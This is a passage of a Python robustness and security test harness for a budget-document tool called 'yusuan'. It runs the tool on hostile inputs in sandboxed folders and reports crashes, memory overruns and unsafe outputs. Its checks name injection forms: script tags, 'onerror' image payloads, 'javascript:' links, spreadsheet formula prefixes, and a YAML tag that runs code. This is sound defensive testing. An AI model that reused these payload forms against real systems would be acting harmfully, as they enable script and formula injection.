    seconds: float = 0.0
    rss: int = 0  # bytes
    killed: bool = False
    problems: list[tuple[str, str]] = field(default_factory=list)  # (class, detail)
    workdir: Path | None = None
    json: Any = None


# A small process between the harness and yusuan: the harness holds the generated inputs, and a
# child forked from it would count that memory in its peak RSS. The wrapper forks and execs yusuan,
# waits, and writes the peak RSS of its children (yusuan and every process yusuan waited for) and
# the exit status to a file.
_WRAPPER = """
import os, resource, sys
report, argv = sys.argv[1], sys.argv[2:]
pid = os.fork()
if pid == 0:
    try:
        os.execv(argv[0], argv)
    finally:
        os._exit(127)
_, status = os.waitpid(pid, 0)
rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
with open(report, "w") as f:
    f.write(f"{rss} {os.waitstatus_to_exitcode(status)}")
"""


def run_process(
    argv: list[str], workdir: Path, wall: float = WALL
) -> tuple[int | None, str, str, float, int, bool]:
    """Run argv in a new session with a fresh HOME and TMPDIR inside ``workdir``; kill the whole
    group after ``wall`` seconds. Returns (rc, stdout, stderr, seconds, peak RSS bytes, killed)."""
    (workdir / "home").mkdir(parents=True, exist_ok=True)
    (workdir / "tmp").mkdir(exist_ok=True)
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(workdir / "home"),
        "TMPDIR": str(workdir / "tmp"),
        "LANG": "C.UTF-8",
        "PYTHONUNBUFFERED": "1",
        # what a UTF-8 locale gives (this machine may have no locale but C): strict UTF-8 output,
        # so a file name that is not UTF-8 shows whether the report survives it
        "PYTHONIOENCODING": "utf-8",
        "COLUMNS": "80",
        "TERM": "xterm-256color",
    }
    out_path, err_path, rep_path = workdir / ".stdout", workdir / ".stderr", workdir / ".rusage"
    wrapped = [sys.executable, "-c", _WRAPPER, str(rep_path), *argv]
    with open(out_path, "wb") as out, open(err_path, "wb") as err, open(os.devnull, "rb") as devnull:
        start = time.monotonic()
        proc = subprocess.Popen(
            wrapped, cwd=workdir, env=env, stdin=devnull, stdout=out, stderr=err, start_new_session=True
        )
        killed = threading.Event()

        def kill() -> None:
            killed.set()
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)

        timer = threading.Timer(wall, kill)
        timer.start()
        try:
            proc.wait()
        finally:
            timer.cancel()
        seconds = time.monotonic() - start
        with contextlib.suppress(ProcessLookupError, PermissionError):  # children the run left behind
            os.killpg(proc.pid, signal.SIGKILL)
    rc: int | None = None
    rss = 0
    try:
        kb, code = rep_path.read_text().split()
        rss, rc = int(kb) * 1024, int(code)
        rep_path.unlink()
    except (OSError, ValueError):
        rc = proc.returncode if not killed.is_set() else None
    stdout = out_path.read_bytes().decode("utf-8", "replace")
    stderr = err_path.read_bytes().decode("utf-8", "replace")
    out_path.unlink()
    err_path.unlink()
    return rc, stdout, stderr, seconds, rss, killed.is_set()


def snapshot(paths: Iterable[Path]) -> dict[str, tuple[int, int, int]]:
    snap = {}
    for p in paths:
        try:
            st = os.lstat(p)
        except OSError:
            continue
        snap[str(p)] = (st.st_size, st.st_mtime_ns, st.st_mode)
        if stat.S_ISDIR(st.st_mode) and not stat.S_ISLNK(st.st_mode):
            for q in p.rglob("*"):
                try:
                    s = os.lstat(q)
                    snap[str(q)] = (s.st_size, s.st_mtime_ns, s.st_mode)
                except OSError:
                    pass
    return snap


def stray_files(workdir: Path, out: Path) -> list[str]:
    """Files the run left in its working folder outside the output folder (HOME and TMPDIR included)."""
    found = []
    for p in workdir.rglob("*"):
        if p == out or out in p.parents or (p.is_dir() and not p.is_symlink()):
            continue
        if p.name in (".stdout", ".stderr", ".rusage"):
            continue
        found.append(str(p.relative_to(workdir)))
    return found


def raw_controls(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in RAW_CONTROL.findall(text)})


def csv_formulas(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig", "replace")
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell and cell[0] in "=+-@\t\r\n" and not PLAIN_NUMBER.match(cell):
                bad.append(cell[:40])
    return bad


def xlsx_formulas(path: Path) -> list[str]:
    import openpyxl

    bad = []
    with zipfile.ZipFile(path) as z:
        if any(n.startswith("xl/externalLinks/") for n in z.namelist()):
            bad.append("external link part")
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    bad.append(f"{ws.title}!{c.coordinate}={str(c.value)[:40]}")
    return bad


class Harness:
    def __init__(self, root: Path, jobs: int) -> None:
        self.root = root
        self.jobs = jobs
        self.runs: list[Run] = []
        self.baseline: dict[str, Any] = {}  # good path → its JSON document entry alone
        self.extract_baseline: dict[str, Any] = {}
        self.lock = threading.Lock()
        self.counter = 0

    def workdir(self, label: str) -> Path:
        with self.lock:
            self.counter += 1
            n = self.counter
        d = self.root / "runs" / f"{n:04d}_{re.sub(r'[^A-Za-z0-9_.-]', '_', label)[:60]}"
        d.mkdir(parents=True)
        return d

    # ---- one input alone -----------------------------------------------------------------------

    def plan(self, case: Case, index: int) -> list[tuple[str, list[str]]]:
        p = str(case.path)
        if case.fmt == "output":
            if case.kind == "source":
                return [("build", [*YUSUAN, "build", p, "-o", "OUT", "-f", "md,html"])]
            fmt = "csv" if "csv" in case.note else "json"
            return [(f"extract-{fmt}", [*YUSUAN, "extract", p, "-o", "OUT", "-f", fmt])]
        if case.kind == "source":
            formats = (
                "md,html,xlsx,docx,pdf" if index % 4 == 0 or "good" in case.name else "md,html,xlsx,docx"
            )
            return [("build", [*YUSUAN, "build", p, "-o", "OUT", "-f", formats])]
        formats = [("csv", "xlsx", "json")[index % 3]]
        if any(k in case.name for k in ("formula", "cmd", "atsum", "dash", "hostile")):
            formats = ["csv", "xlsx"]  # text from the document in spreadsheet cells
        return [
            ("check-json", [*YUSUAN, "check", "--format", "json", p]),
            ("check-text", [*YUSUAN, "check", p]),
            *((f"extract-{fmt}", [*YUSUAN, "extract", p, "-o", "OUT", "-f", fmt]) for fmt in formats),
        ]

    def execute(self, case: Case, command: str, argv: list[str], wall: float = WALL) -> Run:
        work = self.workdir(f"{case.name}_{command}")
        out = work / "out"
        argv = [str(out) if a == "OUT" else a for a in argv]
        if case.out_setup:
            case.out_setup(out, work)
        victim_before = snapshot([case.victim]) if case.victim else {}
        inputs = [case.path] if case.path.parent == self.root / "inputs" else []
        inputs_before = snapshot(inputs)
        rc, so, se, secs, rss, killed = run_process(argv, work, wall)
        run = Run(case, command, argv, rc, so, se, secs, rss, killed, workdir=work)
        self.judge(run, out)
        if (
            case.victim
        ):  # what was there before is untouched (a file added to a linked -o is the user's choice)
            after = snapshot([case.victim])
            changed = [k for k, v in victim_before.items() if after.get(k) != v and k != str(case.victim)]
            if changed or (
                case.victim.is_file() and after.get(str(case.victim)) != victim_before.get(str(case.victim))
            ):
                run.problems.append(("wrote through a symbolic link", f"{case.victim} changed"))
        if snapshot(inputs) != inputs_before:
            run.problems.append(("input modified", str(case.path)))
        stray = stray_files(work, out)
        if stray:
            run.problems.append(("file written outside the output folder", ", ".join(stray[:5])))
        return run

    def judge(self, run: Run, out: Path) -> None:
        case, p = run.case, run.problems
        both = run.stdout + "\n" + run.stderr
        if run.killed:
            p.append(("over the wall budget", f"killed after {WALL:.0f} s"))
            return
        if run.rss > RSS_LIMIT:
            p.append(("over 1 GiB", f"peak RSS {run.rss / 2**20:.0f} MiB"))
        if run.rc is not None and run.rc < 0:
            p.append(("killed by a signal", f"signal {-run.rc}"))
        if "Traceback" in both:
            last = [ln for ln in both.splitlines() if ln.strip()]
            tail = next(
                (
                    ln
                    for ln in reversed(last)
                    if re.match(r"^\s*\w+(\.\w+)*(Error|Exception|Exit|Interrupt)\b", ln)
                ),
                last[-1] if last else "",
            )
            p.append(("traceback", tail.strip()[:160]))
        if "内部错误" in both:
            m = re.search(r"内部错误[^）]*）", both)
            p.append(("internal error (a crash caught)", m.group(0) if m else "内部错误"))
        text_streams = [run.stderr] if run.command == "check-json" else [run.stdout, run.stderr]
        raw = raw_controls("".join(text_streams))
        if raw:
            p.append(("raw control characters in terminal output", " ".join(raw[:8])))
        if (
            MARK in both
            and f"[bold]{MARK}" not in both
            and f"[bold red]{MARK}" not in both
            and run.command != "check-json"
        ):
            p.append(("rich markup interpreted", f"{MARK} printed without its [bold] tags"))
        if run.rc not in (0, 1, 2):
            if not p or p[-1][0] != "killed by a signal":
                p.append(("unexpected exit code", str(run.rc)))
            return
        if run.command == "check-json":
            self.judge_check_json(run)
        elif run.command == "check-text":
            if run.rc == 2 and "错误" not in run.stderr:
                p.append(("exit 2 without a message", run.stderr[-200:]))
        elif run.command.startswith("extract"):
            self.judge_extract(run, out)
        elif run.command == "build":
            self.judge_build(run, out)
        if case.expect == "read" and run.rc == 2 and case.fmt != "output":
            p.append(("legitimate input refused", first_line(run.stderr)))
        if case.expect == "refuse" and run.rc != 2:
            p.append(("hostile input accepted", f"exit {run.rc}"))
        if run.rc == 2 and case.kind == "doc" and case.fmt != "output" and run.command != "check-json":
            named = os.path.basename(str(case.path))
            shown = RAW_CONTROL.sub(lambda m: f"<{ord(m.group()):02X}>", named)
            if named not in run.stderr and shown not in run.stderr and "\ufffd" not in run.stderr:
                p.append(("message does not name the file", first_line(run.stderr)))

    def judge_check_json(self, run: Run) -> None:
        p = run.problems
        try:
            doc = json.loads(run.stdout)
        except json.JSONDecodeError as exc:
            p.append(("no JSON on stdout", f"{exc}: {run.stdout[:80]!r}"))
            return
        run.json = doc
        docs = doc.get("documents", [])
        want = (
            2
            if any(d.get("error") for d in docs)
            else 1
            if any(f.get("severity") == "error" for d in docs for f in d.get("findings", []))
            else 0
        )
        if run.rc != want:
            p.append(("exit code does not match the report", f"exit {run.rc}, report says {want}"))
        for d in docs:
            err = d.get("error")
            if err and not isinstance(err, str):
                p.append(("error is not a message", repr(err)[:80]))
        if run.case.same_as is not None and docs:
            base = self.baseline.get(str(run.case.same_as))
            if base is not None and not docs[0].get("error") and fingerprint(docs[0]) != fingerprint(base):
                p.append(("legitimate variant read differently", diff_findings(base, docs[0])))

    def judge_extract(self, run: Run, out: Path) -> None:
        p = run.problems
        errors = [ln for ln in run.stderr.splitlines() if ln.startswith("错误：")]
        if run.rc == 2 and not errors and run.case.fmt != "output":
            p.append(("exit 2 without a message", first_line(run.stderr)))
        if run.rc == 0 and errors:
            p.append(("exit 0 with an error", errors[0][:120]))
        if out.is_dir() and not out.is_symlink():
            for f in out.rglob("*"):
                if f.is_symlink() or not f.is_file():
                    continue
                try:
                    if f.suffix == ".csv":
                        bad = csv_formulas(f.read_bytes())
                    elif f.suffix == ".xlsx":
                        bad = xlsx_formulas(f)
                    elif f.suffix == ".json":
                        json.loads(f.read_bytes())
                        bad = []
                    else:
                        bad = []
                except Exception as exc:
                    p.append(("output file unreadable", f"{f.name}: {exc!r}"[:160]))
                    continue
                if bad:
                    p.append(("live formula in output", f"{f.name}: {bad[0]!r} (+{len(bad) - 1})"))
            if run.rc == 2 and run.case.expect != "read":
                names = [f.name for f in out.iterdir() if not f.name.startswith(".")]
                if names and run.case.fmt != "output":
                    p.append(("output left by a failed extract", ", ".join(names[:3])))

    def judge_build(self, run: Run, out: Path) -> None:
        p = run.problems
        files = [f for f in out.iterdir()] if out.is_dir() and not out.is_symlink() else []
        if run.rc == 2 and "无法写入" not in run.stderr and run.case.fmt != "output":
            left = [f.name for f in files if f.is_file() and not f.name.startswith(".")]
            if left:
                p.append(("output left by a failed build", ", ".join(left)))
        if run.rc == 2 and not any(w in run.stderr for w in ("错误", "未", "无法")):
            p.append(("exit 2 without a message", first_line(run.stderr)))
        for f in files:
            if f.is_symlink() or not f.is_file():
                continue
            if f.suffix in (".md", ".html"):
                text = f.read_text("utf-8", "replace")
                if "<script>alert" in text or "<img src=x onerror" in text:
                    p.append(("script from the source in the output", f.name))
                if re.search(r"\]\(\s*javascript:|href=[\"']?\s*javascript:", text, re.I):
                    p.append(("javascript: link in the output", f.name))
                if f.suffix == ".md" and "\n# 伪造的标题" in text:
                    p.append(("source text injected markdown structure", f.name))
            elif f.suffix == ".xlsx":
                try:
                    bad = xlsx_formulas(f)
                except Exception as exc:
                    p.append(("output file unreadable", f"{f.name}: {exc!r}"[:160]))
                    continue
                if bad:
                    p.append(("live formula in output", f"{f.name}: {bad[0]!r}"))

    # ---- batches -----------------------------------------------------------------------------------

    def run_batch(self, label: str, goods: list[Path], hostile: list[Case]) -> list[Run]:
        paths: list[Path] = []
        order = list(hostile)
        third = max(1, len(order) // 3)
        paths = [
            goods[0],
            *[c.path for c in order[:third]],
            *goods[1:2],
            *[c.path for c in order[third:]],
            *goods[2:],
        ]
        pseudo = Case(label, "batch", paths[0], note=", ".join(c.name for c in hostile))
        wall = WALL * max(1, len(paths) // 4)
        runs = []
        for command, argv in (
            ("batch-check-json", [*YUSUAN, "check", "--format", "json", *map(str, paths)]),
            ("batch-extract-json", [*YUSUAN, "extract", *map(str, paths), "-o", "OUT"]),
        ):
            work = self.workdir(f"{label}_{command}")
            out = work / "out"
            argv = [str(out) if a == "OUT" else a for a in argv]
            rc, so, se, secs, rss, killed = run_process(argv, work, wall)
            run = Run(pseudo, command, argv, rc, so, se, secs, rss, killed, workdir=work)
            pr = run.problems
            if killed:
                pr.append(("over the wall budget", f"batch of {len(paths)} killed after {wall:.0f} s"))
            if rss > RSS_LIMIT:
                pr.append(("over 1 GiB", f"peak RSS {rss / 2**20:.0f} MiB"))
            if "Traceback" in so + se:
                pr.append(("traceback", first_line(se[-300:])))
            raw = raw_controls(se if command.endswith("json") and "check" in command else so + se)
            if raw:
                pr.append(("raw control characters in terminal output", " ".join(raw[:8])))
            if command == "batch-check-json" and not killed:
                try:
                    doc = json.loads(so)
                except json.JSONDecodeError as exc:
                    pr.append(("batch: no JSON on stdout", str(exc)))
                    doc = None
                if doc is not None:
                    docs = doc["documents"]
                    got = [d["path"] for d in docs]
                    if got != [str(x) for x in paths]:
                        odd = next(
                            (
                                f"{a!r} for {b!r}"
                                for a, b in zip(got, map(str, paths), strict=False)
                                if a != b
                            ),
                            "",
                        )
                        detail = f"{len(docs)} of {len(paths)}; {odd}"[:200]
                        pr.append(("batch: documents missing or out of order", detail))
                    by_path = {d["path"]: d for d in docs}
                    for g in goods:
                        d = by_path.get(str(g))
                        base = self.baseline.get(str(g))
                        if d is None:
                            pr.append(("batch: good document missing", g.name))
                        elif base is not None and fingerprint(d) != fingerprint(base):
                            pr.append(
                                (
                                    "batch: good document's findings differ",
                                    f"{g.name}: {diff_findings(base, d)}",
                                )
                            )
                    want = (
                        2
                        if any(d.get("error") for d in docs)
                        else 1
                        if any(f["severity"] == "error" for d in docs for f in d["findings"])
                        else 0
                    )
                    if rc != want:
                        pr.append(("exit code does not match the report", f"exit {rc}, report says {want}"))
            if command == "batch-extract-json" and not killed:
                for g in goods:
                    f = out / f"{g.stem}.json"
                    if not f.is_file():
                        pr.append(("batch: good document not extracted", g.name))
                    elif (
                        self.extract_baseline.get(str(g)) is not None
                        and json.loads(f.read_bytes()) != self.extract_baseline[str(g)]
                    ):
                        pr.append(("batch: good document's extraction differs", g.name))
                errors = [ln for ln in se.splitlines() if ln.startswith("错误：")]
                if (rc == 2) != bool(errors):
                    pr.append(("exit code does not match the messages", f"exit {rc}, {len(errors)} errors"))
            runs.append(run)
        return runs


def first_line(text: str) -> str:
    for ln in text.splitlines():
        if ln.strip():
            return ln.strip()[:160]
    return ""


def fingerprint(doc: dict[str, Any]) -> Any:
    return (
        doc.get("error") is None,
        doc.get("document"),
        doc.get("profile"),
        sorted(doc.get("tables_understood") or []),
        sorted((f["rule"], f["severity"], f["message"]) for f in doc.get("findings", [])),
    )


def diff_findings(a: dict[str, Any], b: dict[str, Any]) -> str:
    fa, fb = fingerprint(a), fingerprint(b)
    if fa[:4] != fb[:4]:
        return f"document/profile/tables differ: {fa[:3]} vs {fb[:3]}"
    lost = Counter(fa[4]) - Counter(fb[4])
    new = Counter(fb[4]) - Counter(fa[4])
    return f"{sum(lost.values())} findings lost, {sum(new.values())} new; e.g. {next(iter(lost or new), '')}"[
        :200
    ]


# --------------------------------------------------------------------------------------------------
# main


def build_bases(root: Path) -> dict[str, Path]:
    """The example built in every format: a realistic good document per format to mutate."""
    out = root / "base"
    res = subprocess.run(
        [*YUSUAN, "build", str(EXAMPLES / "culture_bureau_2024.yaml"), "-o", str(out)],
        capture_output=True,
        text=True,
        cwd=root,
    )
    bases = {}
    for fmt in ("md", "html", "xlsx", "docx", "pdf"):
        p = out / f"culture_bureau_2024.{fmt}"
        if p.is_file():
            good = root / "good" / f"good_built_{fmt}.{fmt}"  # distinct stems: extract names outputs by stem
            good.parent.mkdir(exist_ok=True)
            shutil.copy(p, good)
            bases[fmt] = good
    if res.returncode not in (0, 1):
        print(
            f"warning: building the base documents failed ({res.returncode}): {res.stderr[-300:]}",
            file=sys.stderr,
        )
    return bases


def good_documents(root: Path, bases: dict[str, Path]) -> list[Path]:
    gd = root / "good"
    gd.mkdir(exist_ok=True)
    goods = []
    for src, name in (
        ("culture_bureau_2024.md", "good_culture.md"),
        ("culture_bureau_2024_with_errors.md", "good_with_errors.md"),
    ):
        shutil.copy(EXAMPLES / src, gd / name)
        goods.append(gd / name)
    corpus = sorted((CORPUS / "shanghai" / "budget").glob("*.pdf"))
    for i, p in enumerate(corpus[:2]):
        shutil.copy(p, gd / f"good_corpus_{i}.pdf")
        goods.append(gd / f"good_corpus_{i}.pdf")
    fj = sorted((CORPUS / "fujian").glob("*.txt"))[:1]
    for p in fj:
        shutil.copy(p, gd / "good_fujian.txt")
        goods.append(gd / "good_fujian.txt")
    goods.extend(bases[f] for f in ("docx", "xlsx", "html") if f in bases)
    return goods


def generate(root: Path, seed: int = 11) -> tuple[list[Case], dict[str, Path], list[str]]:
    g = Gen(root, random.Random(seed))
    bases = build_bases(root)
    for fn in (gen_text, gen_special, gen_xls, gen_sources, gen_outputs):
        try:
            fn(g)
        except Exception as exc:
            g.errors.append(f"{fn.__name__}: {exc!r}")
    for fn2 in (gen_html, gen_docx, gen_xlsx, gen_pdf):
        try:
            fn2(g, bases)
        except Exception as exc:
            g.errors.append(f"{fn2.__name__}: {exc!r}")
    # The built good documents are the reference of their variants
    for c in g.cases:
        if c.same_as is not None and c.same_as in bases.values():
            pass
    return g.cases, bases, g.errors


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--jobs", type=int, default=1, help="runs in parallel (default 1)")
    ap.add_argument(
        "--only",
        default="",
        help="only inputs whose name contains this (or matches it as a regular expression)",
    )
    ap.add_argument("--keep", type=Path, help="keep the inputs and runs in this folder")
    ap.add_argument("--no-batches", action="store_true", help="skip the mixed batches")
    ap.add_argument("--batch-size", type=int, default=12, help="hostile inputs per mixed batch")
    ap.add_argument("--seed", type=int, default=11)
    args = ap.parse_args()

    if args.keep:
        args.keep.mkdir(parents=True, exist_ok=True)
        if any(args.keep.iterdir()):
            print(f"{args.keep} is not empty", file=sys.stderr)
            return 2
        root = args.keep.resolve()
    else:
        root = Path(tempfile.mkdtemp(prefix="yusuan-attack-"))
    started = time.monotonic()
    try:
        cases, bases, gen_errors = generate(root, args.seed)
        if args.only:
            try:
                pat = re.compile(args.only)
                cases = [c for c in cases if args.only in c.name or pat.search(c.name)]
            except re.error:
                cases = [c for c in cases if args.only in c.name]
        h = Harness(root, args.jobs)
        goods = good_documents(root, bases)
        # baselines: every good document and every reference of a variant, alone
        refs = list(dict.fromkeys([*goods, *(c.same_as for c in cases if c.same_as is not None)]))
        for ref in refs:
            rc, so, se, *_ = run_process(
                [*YUSUAN, "check", "--format", "json", str(ref)], h.workdir(f"baseline_{ref.name}")
            )
            try:
                h.baseline[str(ref)] = json.loads(so)["documents"][0]
            except (json.JSONDecodeError, KeyError, IndexError):
                print(f"baseline of {ref} failed ({rc}): {se[-300:]}", file=sys.stderr)
            work = h.workdir(f"baseline_extract_{ref.name}")
            run_process([*YUSUAN, "extract", str(ref), "-o", str(work / "out")], work)
            f = work / "out" / f"{ref.stem}.json"
            if f.is_file():
                h.extract_baseline[str(ref)] = json.loads(f.read_bytes())
        print(
            f"{len(cases)} inputs in {root}/inputs ({len(goods)} good documents); generated in {time.monotonic() - started:.0f} s",
            flush=True,
        )
        jobs = [(c, cmd, argv) for i, c in enumerate(cases) for cmd, argv in h.plan(c, i)]
        done = 0

        def one(job: tuple[Case, str, list[str]]) -> Run:
            return h.execute(*job)

        with ThreadPoolExecutor(max_workers=max(1, args.jobs)) as pool:
            for run in pool.map(one, jobs):
                h.runs.append(run)
                done += 1
                if run.problems:
                    print(
                        f"  FAIL {run.case.name} [{run.command}] {run.problems[0][0]}: {run.problems[0][1][:100]}",
                        flush=True,
                    )
                if done % 50 == 0:
                    print(f"  {done}/{len(jobs)} runs, {time.monotonic() - started:.0f} s", flush=True)
        if not args.no_batches:
            slow = {r.case.name for r in h.runs if r.seconds > 15 or r.killed}
            pool_cases = [
                c
                for c in cases
                if c.kind == "doc"
                and c.fmt not in ("output",)
                and c.name not in slow
                and not str(c.path).startswith("/dev/")
            ]
            batches = [
                pool_cases[i : i + args.batch_size] for i in range(0, len(pool_cases), args.batch_size)
            ]
            batch_goods = goods
            print(
                f"{len(batches)} mixed batches of up to {args.batch_size} hostile inputs with {len(batch_goods)} good documents",
                flush=True,
            )

            def one_batch(item: tuple[int, list[Case]]) -> list[Run]:
                i, batch = item
                rot = batch_goods[i % len(batch_goods) :] + batch_goods[: i % len(batch_goods)]
                return h.run_batch(f"batch{i:02d}", rot, batch)

            with ThreadPoolExecutor(max_workers=max(1, args.jobs)) as pool:
                for runs in pool.map(one_batch, enumerate(batches)):
                    for run in runs:
                        h.runs.append(run)
                        if run.problems:
                            print(
                                f"  FAIL {run.case.name} [{run.command}] {run.problems[0][0]}: {run.problems[0][1][:100]}",
                                flush=True,
                            )
        if (root / "PWNED").exists():
            print("!! a YAML tag ran code: PWNED exists", flush=True)
            h.runs.append(
                Run(
                    Case("PWNED", "source", root / "PWNED"),
                    "build",
                    [],
                    problems=[("code executed from a YAML tag", str(root / "PWNED"))],
                )
            )
        report(h, cases, gen_errors, time.monotonic() - started)
        return 1 if any(r.problems for r in h.runs) else 0
    finally:
        if not args.keep:
            shutil.rmtree(root, ignore_errors=True)
        else:
            print(f"kept: {root}")


def report(h: Harness, cases: list[Case], gen_errors: list[str], elapsed: float) -> None:
    failures = [(r, cls, detail) for r in h.runs for cls, detail in r.problems]
    print()
    if failures:
        print("FAILURES")
        print(f"{'input':<40} {'command':<20} what went wrong")
        for r, cls, detail in failures:
            print(f"{r.case.name[:40]:<40} {r.command:<20} {cls}: {detail}"[:240])
    print()
    print("SUMMARY")
    by_fmt = Counter(c.fmt for c in cases)
    print("  inputs       ", len(cases), "(" + ", ".join(f"{k} {v}" for k, v in sorted(by_fmt.items())) + ")")
    singles = [r for r in h.runs if not r.command.startswith("batch")]
    batches = [r for r in h.runs if r.command.startswith("batch")]
    print("  runs         ", len(h.runs), f"({len(singles)} alone, {len(batches)} in mixed batches)")
    print("  failing runs ", sum(1 for r in h.runs if r.problems), f"({len(failures)} failures)")
    for cls, n in Counter(cls for _, cls, _ in failures).most_common():
        inputs = sorted({r.case.name for r, c, _ in failures if c == cls})
        print(f"    {n:4d}  {cls}  [{', '.join(inputs[:6])}{' …' if len(inputs) > 6 else ''}]")
    if singles:
        slow = max(singles, key=lambda r: r.seconds)
        big = max(singles, key=lambda r: r.rss)
        print(f"  slowest run   {slow.seconds:.1f} s  {slow.case.name} [{slow.command}]")
        print(f"  largest RSS   {big.rss / 2**20:.0f} MiB  {big.case.name} [{big.command}]")
        secs = sorted(r.seconds for r in singles)
        print(f"  median run    {secs[len(secs) // 2]:.2f} s")
    if batches:
        slow = max(batches, key=lambda r: r.seconds)
        big = max(batches, key=lambda r: r.rss)
        print(
            f"  slowest batch {slow.seconds:.1f} s  {slow.case.name} [{slow.command}]; largest {big.rss / 2**20:.0f} MiB"
        )
    if gen_errors:
        print("  generator notes:")
        for e in gen_errors:
            print("   ", e[:200])
    print(f"  elapsed       {elapsed:.0f} s")


if __name__ == "__main__":
    sys.exit(main())
